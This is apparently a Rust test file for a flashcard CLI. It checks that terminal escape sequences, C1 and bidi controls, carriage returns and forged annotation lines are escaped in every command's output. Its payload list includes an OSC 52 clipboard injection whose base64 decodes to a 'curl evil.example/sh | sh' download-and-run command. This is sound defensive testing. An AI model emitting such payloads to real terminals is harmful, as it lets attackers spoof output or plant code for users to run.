//! Hostile text: escape sequences, C1 and bidi controls, DEL, carriage
//! returns and line breaks in every text of a deck, in file names and in the
//! store, through every command and output format. Nothing of them may reach
//! the terminal raw.

use std::path::Path;
use std::process::Command;

use crate::support::{BIN, Run, Scratch, fiches_at, fiches_with};

/// What an attacker writes: clear the screen, set the window title, fill
/// the clipboard, a C1 CSI, DEL, bidi overrides and isolates, a carriage
/// return that would overwrite the line, a line break that would forge one.
const PAYLOADS: &[(&str, &str)] = &[
    ("csi", "\u{1b}[2J\u{1b}[31m"),
    ("osc0", "\u{1b}]0;PWNED\u{7}"),
    (
        "osc52",
        "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\u{7}",
    ),
    ("c1", "\u{9b}31m\u{9d}0;x\u{9c}"),
    ("del", "a\u{7f}b"),
    ("bidi", "\u{202e}lmth.exe\u{202c}\u{2066}x\u{2069}"),
    ("cr", "honnête\rFAUX"),
    ("newline", "un\n::error::forged"),
];

/// The characters that must never come out raw.
fn raw_unsafe(text: &str) -> Option<char> {
    text.chars().find(|&c| {
        (c < ' ' && c != '\n' && c != '\t')
            || ('\u{7f}'..='\u{9f}').contains(&c)
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
    })
}

fn assert_safe(what: &str, run: &Run) {
    for (stream, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        if let Some(c) = raw_unsafe(text) {
            panic!("{what}: {stream} has U+{:04X} raw:\n{text:?}", u32::from(c));
        }
        assert!(!text.contains("panicked"), "{what}: {text}");
    }
}

/// As a YAML double-quoted string.
fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

/// A deck with `payload` in every one of its texts.
fn hostile_deck(payload: &str) -> String {
    let p = quoted(payload);
    let inner = |s: &str| quoted(&format!("{s} {payload}"));
    format!(
        "title: {title}\ndescription: {p}\nsource: {p}\ntags: [{p}]\nexam: {p}\ncards:\n\
         \x20 - q: {q}\n    a: [{p}, {a}]\n    note: {p}\n    source: {p}\n    tags: [{p}]\n    id: {p}\n\
         \x20 - kind: choice\n    q: Choix\n    choices: [{c1}, {c2}]\n    correct: {p}\n\
         \x20 - kind: cloze\n    q: \"Un ______\"\n    blanks: [{p}]\n\
         \x20 - kind: match\n    q: Paires\n    pairs:\n      - {l}: {r}\n      - \"g\": \"d\"\n\
         \x20 - kind: {p}\n    q: Sorte\n    a: b\n\
         \x20 - {p}: x\n    q: Champ\n    a: b\n\
         \x20 - q: Propre ?\n    a: Oui.\n",
        title = inner("Titre"),
        q = inner("Question"),
        a = inner("Réponse"),
        c1 = inner("un"),
        c2 = inner("deux"),
        l = inner("gauche"),
        r = inner("droite"),
    )
}

fn run(dir: &Path, args: &[&str], stdin: Option<&str>) -> Run {
    fiches_at(dir, "2026-12-01T09:00:00-05:00", args, stdin)
}

#[test]
fn hostile_decks_and_file_names_reach_no_output_raw() {
    for (name, payload) in PAYLOADS {
        let scratch = Scratch::new();
        let dir = &scratch.path;
        scratch.write("decks/hostile.yaml", hostile_deck(payload));
        // The same payload in a file name, used as the deck id.
        let file_name = format!("decks/{}.yaml", payload.replace(['\n', '/'], "_"));
        scratch.write(&file_name, "title: Propre\ncards:\n  - q: Q\n    a: R\n");
        scratch.write(
            "decks/good.yaml",
            "title: Bon\ncards:\n  - q: Bonjour ?\n    a: Oui.\n",
        );

        let check = run(dir, &["check", "decks"], None);
        assert_eq!(check.status, 1, "{name}: {}", check.stderr);
        assert_safe(&format!("{name}: check"), &check);
        // Each text is reported, at its line (a line break in a text is no
        // fault: it is shown on lines of its own, or as `\n` on one line).
        let lines: &[u32] = if *name == "newline" {
            &[28]
        } else {
            &[1, 2, 3, 4, 7, 8, 9, 10, 11, 12, 15, 19, 23, 28]
        };
        for line in lines {
            assert!(
                check.stderr.contains(&format!("hostile.yaml:{line}:")),
                "{name}: nothing said about line {line}:\n{}",
                check.stderr
            );
        }
        // The file name used as an id is reported too.
        if raw_unsafe(&file_name).is_some() {
            assert!(
                check.stderr.contains("the file name"),
                "{name}: {}",
                check.stderr
            );
        }

        let json = run(dir, &["check", "--format", "json", "decks"], None);
        assert_safe(&format!("{name}: check json"), &json);
        for line in json.stdout.lines() {
            serde_json::from_str::<serde_json::Value>(line)
                .unwrap_or_else(|err| panic!("{name}: not JSON ({err}): {line}"));
        }

        let github = run(dir, &["check", "--format", "github", "decks"], None);
        assert_safe(&format!("{name}: check github"), &github);
        for line in github.stdout.lines() {
            assert!(
                line.starts_with("::error file=") || line.starts_with("checked "),
                "{name}: a forged line: {line}"
            );
        }

        for args in [
            &["preview", "decks/hostile.yaml"][..],
            &["sync", "decks"],
            &["sync", "--dry-run", "decks"],
            &["stats"],
            &["stats", "--json"],
            &["cards"],
            &["cards", "--json"],
            &[],
        ] {
            let out = run(dir, args, None);
            assert_safe(&format!("{name}: fiches {}", args.join(" ")), &out);
        }
        let review = run(dir, &["review", "--plain"], Some("\n3\n\n3\nq\n"));
        assert_safe(&format!("{name}: review --plain"), &review);
    }
}

/// Texts the store already holds (written by hand, or by an older fiches)
/// are escaped as well when shown.
#[test]
fn hostile_texts_in_the_store_reach_no_output_raw() {
    for (name, payload) in PAYLOADS {
        let scratch = Scratch::new();
        let dir = &scratch.path;
        scratch.write(
            "decks/d.yaml",
            "title: \"MARK\"\ncards:\n  - q: \"Question MARK\"\n    a: [\"MARK\", \"deux\"]\n    note: \"MARK\"\n    source: \"MARK\"\n    tags: [\"MARK\"]\n    id: \"MARK\"\n  - kind: choice\n    q: \"Choix MARK\"\n    choices: [\"un MARK\", \"deux\"]\n    correct: 1\n    shuffle: false\n",
        );
        let synced = run(dir, &["sync"], None);
        assert_eq!(synced.status, 0, "{}", synced.stderr);
        let db = rusqlite::Connection::open(dir.join("store.db")).unwrap();
        let in_json = quoted(payload);
        let in_json = &in_json[1..in_json.len() - 1];
        db.execute_batch("PRAGMA foreign_keys = OFF").unwrap();
        for (table, column, value) in [
            ("decks", "title", *payload),
            ("decks", "id", payload),
            ("cards", "deck", payload),
            ("cards", "key", payload),
            ("cards", "question", payload),
            ("cards", "note", payload),
            ("cards", "source", payload),
            ("cards", "answer", in_json),
            ("cards", "tags", in_json),
            ("cards", "kind", in_json),
        ] {
            db.execute(
                &format!("UPDATE {table} SET {column} = replace({column}, 'MARK', ?1)"),
                [value],
            )
            .unwrap();
        }
        drop(db);
        // Run where there is no decks/: the store's decks are studied as they are.
        let elsewhere = dir.join("elsewhere");
        std::fs::create_dir_all(&elsewhere).unwrap();
        for args in [
            &["stats"][..],
            &["stats", "--json"],
            &["cards"],
            &["cards", "--json"],
            &[],
        ] {
            let mut out = run(&elsewhere, args, None);
            if out.stdout.is_empty() {
                out.stdout = format!("(status {})", out.status);
            }
            assert_safe(&format!("{name}: fiches {}", args.join(" ")), &out);
        }
        let review = fiches_with(
            &elsewhere,
            &["review", "--plain"],
            &[
                ("FICHES_DB", dir.join("store.db").to_str().unwrap()),
                ("FICHES_NOW", "2026-12-01T09:00:00-05:00"),
            ],
            Some("\n3\na\n3\nq\n"),
        );
        assert_safe(&format!("{name}: review --plain"), &review);
        assert!(
            review.stdout.contains("Q:"),
            "{name}: no card shown: {}{}",
            review.stdout,
            review.stderr
        );
    }
}

#[test]
fn a_carriage_return_in_a_question_does_not_overwrite_it_in_plain_review() {
    let scratch = Scratch::new();
    let dir = &scratch.path;
    scratch.write(
        "decks/d.yaml",
        "title: T\ncards:\n  - q: \"Le client a-t-il raison ?\"\n    a: \"Oui.\"\n",
    );
    assert_eq!(run(dir, &["sync"], None).status, 0);
    let db = rusqlite::Connection::open(dir.join("store.db")).unwrap();
    db.execute(
        "UPDATE cards SET question = 'Le client a-t-il raison ?' || char(13) || 'FAUX'",
        [],
    )
    .unwrap();
    drop(db);
    let elsewhere = dir.join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let review = fiches_with(
        &elsewhere,
        &["review", "--plain"],
        &[
            ("FICHES_DB", dir.join("store.db").to_str().unwrap()),
            ("FICHES_NOW", "2026-12-01T09:00:00-05:00"),
        ],
        Some("q\n"),
    );
    assert!(
        review
            .stdout
            .contains("Q: Le client a-t-il raison ?\\rFAUX"),
        "{}",
        review.stdout
    );
}

/// `convert` reads text copied from a page: nothing of it comes out raw,
/// neither in its report nor in the deck it writes to stdout.
#[test]
fn convert_passes_no_control_through() {
    for (name, payload) in PAYLOADS {
        let scratch = Scratch::new();
        let page = format!(
            "Terme {payload}\nDéfinition {payload}\nAutre terme\nAutre définition\n{payload}\n"
        );
        let out = run(
            &scratch.path,
            &["convert", "--from", "quizlet", "-"],
            Some(&page),
        );
        assert_safe(&format!("{name}: convert"), &out);
    }
}

/// Under a real terminal (a pseudo-terminal from `script`), where diagnostics
/// carry source excerpts: the line commands send no escape sequence at all,
/// and the full screen only its own (CSI: colours, cursor, modes), never an
/// OSC, DCS or C1 control.
#[test]
fn under_a_terminal_only_our_own_escapes_come_out() {
    let found = Command::new("script")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !found {
        assert!(std::env::var_os("CI").is_none(), "script is needed in CI");
        eprintln!("skipping: script (util-linux) is not installed");
        return;
    }
    for (name, payload) in PAYLOADS {
        let scratch = Scratch::new();
        let dir = &scratch.path;
        scratch.write("decks/hostile.yaml", hostile_deck(payload));
        scratch.write(
            "decks/good.yaml",
            "title: Bon\ncards:\n  - q: Bonjour ?\n    a: Oui.\n",
        );
        let env = format!(
            "cd {} && stty cols 100 rows 30 && env -u NO_COLOR FICHES_DB=store.db FICHES_NOW=2026-12-01T09:00:00-05:00 TERM=xterm-256color",
            dir.display()
        );
        for line_command in [
            "check decks",
            "check --format github decks",
            "sync",
            "stats --json",
            "cards",
        ] {
            let out = in_terminal(&format!("{env} {BIN} {line_command} </dev/null"));
            if let Some(c) = raw_unsafe(&out.replace("\r\n", "\n")) {
                panic!(
                    "{name}: fiches {line_command}: U+{:04X} raw:\n{out:?}",
                    u32::from(c)
                );
            }
        }
        // The full-screen preview, left with `q` once it has drawn.
        let screen = in_terminal_typing(
            &format!("{env} {BIN} preview decks/hostile.yaml"),
            Some(("Preview · Titre", "q")),
        );
        assert!(
            screen.contains("Preview · Titre"),
            "{name}: no screen: {screen:?}"
        );
        assert_only_our_escapes(name, &screen);
    }
}

/// Runs `command` under `script`, a pseudo-terminal, and returns what it wrote.
fn in_terminal(command: &str) -> String {
    in_terminal_typing(command, None)
}

/// Runs `command` under `script`; once its output shows `keys.0`, types
/// `keys.1`. Whatever happens, it ends within a minute: a command still
/// running then is killed and the test fails with what it printed.
fn in_terminal_typing(command: &str, keys: Option<(&str, &str)>) -> String {
    use std::io::{Read, Write};
    use std::process::Stdio;
    use std::sync::{Arc, Mutex};
    use std::time::{Duration, Instant};

    let mut child = Command::new("script")
        .args(["-qec", command, "/dev/null"])
        // The same shell wherever the tests run: `script` starts $SHELL.
        .env("SHELL", "/bin/sh")
        .stdin(if keys.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let output = Arc::new(Mutex::new(Vec::new()));
    let reader = {
        let output = Arc::clone(&output);
        let mut stdout = child.stdout.take().unwrap();
        std::thread::spawn(move || {
            let mut chunk = [0u8; 4096];
            while let Ok(n @ 1..) = stdout.read(&mut chunk) {
                output.lock().unwrap().extend_from_slice(&chunk[..n]);
            }
        })
    };
    let mut stdin = child.stdin.take();
    let text =
        |output: &Mutex<Vec<u8>>| String::from_utf8_lossy(&output.lock().unwrap()).into_owned();
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if let (Some((shown, typed)), Some(input)) = (keys, stdin.as_mut())
            && text(&output).contains(shown)
        {
            input.write_all(typed.as_bytes()).unwrap();
            input.flush().unwrap();
            stdin = None;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "still running after 60 s: {command}\nit printed: {:?}",
                text(&output)
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    reader.join().unwrap();
    text(&output)
}

/// Every ESC starts a CSI sequence (or a two-byte keypad/charset escape)
/// and nothing else is unsafe.
fn assert_only_our_escapes(name: &str, output: &str) {
    let mut chars = output.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' {
            match chars.next() {
                Some('[') => {
                    // Parameters and intermediates, then one final byte.
                    for c in chars.by_ref() {
                        assert!(
                            (' '..='~').contains(&c),
                            "{name}: a CSI broken by U+{:04X}",
                            u32::from(c)
                        );
                        if ('@'..='~').contains(&c) {
                            break;
                        }
                    }
                }
                Some('(' | ')') => {
                    chars.next();
                }
                Some('=' | '>' | '7' | '8' | 'M') => {}
                other => panic!("{name}: an escape that is not ours: ESC {other:?} in {output:?}"),
            }
        } else if c != '\r' && raw_unsafe(&c.to_string()).is_some() {
            panic!("{name}: U+{:04X} raw in the full screen", u32::from(c));
        }
    }
}

/// clap's own errors quote the arguments given: an unknown flag, a value it
/// cannot read, an unknown command. They come out escaped, exit 2.
#[test]
fn argument_errors_quote_arguments_escaped() {
    let scratch = Scratch::new();
    let dir = &scratch.path;
    for (_, payload) in PAYLOADS {
        let flag = format!("--x{payload}");
        let cases: [Vec<&str>; 5] = [
            vec![&flag],
            vec!["check", &flag],
            vec!["review", "--new", payload],
            vec!["check", "--format", payload],
            vec![payload],
        ];
        for args in cases {
            let run = run(dir, &args, None);
            assert_safe(&format!("fiches {args:?}"), &run);
            assert_eq!(run.status, 2, "fiches {args:?}: {}", run.stderr);
            assert!(
                run.stderr.contains("error:"),
                "fiches {args:?}: {}",
                run.stderr
            );
            assert!(run.stdout.is_empty(), "fiches {args:?}: {}", run.stdout);
        }
        // A deck path that does not exist is our own message, escaped too.
        let missing = format!("{payload}.yaml");
        let run = run(dir, &["check", &missing], None);
        assert_safe("check of a missing hostile path", &run);
        assert_eq!(run.status, 2, "{}", run.stderr);
    }
    let escaped = run(dir, &["--x\u{1b}]0;PWNED\u{7}"], None);
    assert!(
        escaped.stderr.contains("--x\\e]0;PWNED\\u{7}"),
        "{}",
        escaped.stderr
    );
    // Help is ours: still printed, exit 0.
    let help = run(dir, &["check", "--help"], None);
    assert_eq!(help.status, 0, "{}", help.stderr);
    assert!(help.stdout.contains("Usage"), "{}", help.stdout);
}
